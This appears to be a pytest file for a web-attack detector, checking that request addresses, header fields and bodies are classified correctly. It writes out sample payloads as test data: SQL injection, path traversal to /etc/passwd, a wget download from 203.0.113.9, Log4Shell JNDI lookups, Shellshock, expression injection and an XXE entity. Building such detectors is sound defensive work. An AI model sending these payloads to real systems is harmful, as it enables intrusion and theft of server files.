"""Code in addresses, header fields and bodies of web requests, and what people write that looks like it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from netscope.engine.parse.web_attack import attack_in_address, attack_in_agent, attack_in_body, attack_in_fields

FORM = "application/x-www-form-urlencoded"


@pytest.mark.parametrize(
    ("uri", "kind"),
    [
        ("/a?id=1%27+and+1%3D1+union+select+user%2C+password+from+users%23", "SQL injection"),
        ("/a?id=1%27%20OR%20%271%27=%271", "SQL injection"),
        ("/a?id=1;DROP TABLE users", "SQL injection"),
        ("/a?id=1+AND+SLEEP(5)", "SQL injection"),
        ("/a?name=%3Cscript%3Ealert(1)%3C/script%3E", "script injection"),
        ("/a?name=%253Cscript%253E", "script injection"),
        ("/a?u=%22onerror=alert(1)", "script injection"),
        ("/../../../../etc/passwd", "path traversal"),
        ("/a?f=..%2f..%2f..%2fboot.ini", "path traversal"),
        ("/cgi-bin/x?a=;wget http://203.0.113.9/x.sh", "shell command"),
        ("/ping?host=1.1.1.1|cat /etc/passwd", "shell command"),
        ("/index.php?s=/index/think\\app/invokefunction&function=system(", "shell command"),
        ("/up/c99.php?cmd=whoami", "web shell"),
        ("/x.jsp?a=1&exec=ls+-la", "web shell"),
        ("/?x=%25%7B(%23cmd%3D'id')%7D", "expression injection"),
        ("/?x=${jndi:ldap://203.0.113.9:1389/a}", "Log4Shell"),
        ("/?x=${${lower:j}ndi:${lower:l}dap://x/a}", "Log4Shell"),
    ],
)
def test_code_in_an_address(uri: str, kind: str) -> None:
    assert attack_in_address(uri)[0] == kind


@pytest.mark.parametrize(
    ("agent", "kind"),
    [("() { :; }; echo x", "Shellshock"), ("${jndi:ldap://x/a}", "Log4Shell"), ("jndi:ldap://x/a", "Log4Shell")],
)
def test_code_in_the_user_agent(agent: str, kind: str) -> None:
    assert attack_in_agent(agent) == kind


@pytest.mark.parametrize(
    "uri",
    [
        "/search?q=it's+time+to+select+a+union", "/a?next=%2Fhome%2F..%2Fb", "/x?price=$5;%20really", "/a/b/../c",
        "/p?json={%22a%22:%22b%22}", "/d?path=C:%5CUsers", "/q?where=a|b|c", "/t?x=%7B%7Bname%7D%7D",
        "/?s=O'Brien+or+Smith", "/cgi?cmd=play", "/api?cmd=idle&x=1", "/?exec=1", "/?tpl=%25%7Bhost%7D",
        "/ads?u=https%3A%2F%2Fexample.org%2Fscript.js", "/m?a=1&b=2;c=3", "/font?family=A:400|B:700", "/p?on=load",
    ],
)  # fmt: skip
def test_what_people_and_programs_write(uri: str) -> None:
    assert attack_in_address(uri)[0] is None


def head(*fields: str) -> bytes:
    return "\r\n".join(("GET / HTTP/1.1", "Host: a", *fields, "", "")).encode()


@pytest.mark.parametrize(
    ("field", "found"),
    [
        ("X-Api-Version: ${jndi:ldap://203.0.113.9/a}", ("Log4Shell", "X-Api-Version")),
        ("Referer: ${${::-j}ndi:rmi://x/a}", ("Log4Shell", "Referer")),
        ("Cookie: () { :; }; /bin/bash -c id", ("Shellshock", "Cookie")),
        ("Content-Type: %{(#_='multipart/form-data').(#cmd='id')}", ("expression injection", "Content-Type")),
        ("User-Agent: ${jndi:ldap://x/a}", (None, "")),
        ("Cookie: a=${b}; c=%{d}", (None, "")),
        ("Accept: */*", (None, "")),
    ],
)
def test_code_in_a_header_field_is_told_with_its_name(field: str, found: tuple[str | None, str]) -> None:
    assert attack_in_fields(head(field)) == found


@pytest.mark.parametrize(
    ("content_type", "body", "kind"),
    [
        (FORM, "user=admin%27+or+1%3D1--&pass=x", "SQL injection"),
        (FORM, "ip=127.0.0.1%3Bcat+/etc/passwd&Submit=1", "shell command"),
        (FORM + "; charset=utf-8", "a=1&cmd=whoami", "web shell"),
        (FORM, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "expression injection"),
        ("application/json", '{"name":"${jndi:ldap://203.0.113.9/a}"}', "Log4Shell"),
        ("text/xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "external entity"),
        (FORM, "text=" + "it's+an+essay+about+union+select+" * 20, None),
        (FORM, "name=O%27Brien&city=Berlin", None),
        ("application/json", '{"query":"select 1; cat /etc/passwd | sh \' or 1=1"}', None),
        ("text/xml", "<s:Envelope><s:Body/></s:Envelope>", None),
    ],
)
def test_code_in_a_body(content_type: str, body: str, kind: str | None) -> None:
    assert attack_in_body(content_type, body.encode()) == kind


@given(st.binary(max_size=400))
def test_any_bytes_are_read_without_an_exception(data: bytes) -> None:
    attack_in_fields(data)
    for content_type in (FORM, "application/json", "text/xml"):
        attack_in_body(content_type, data)
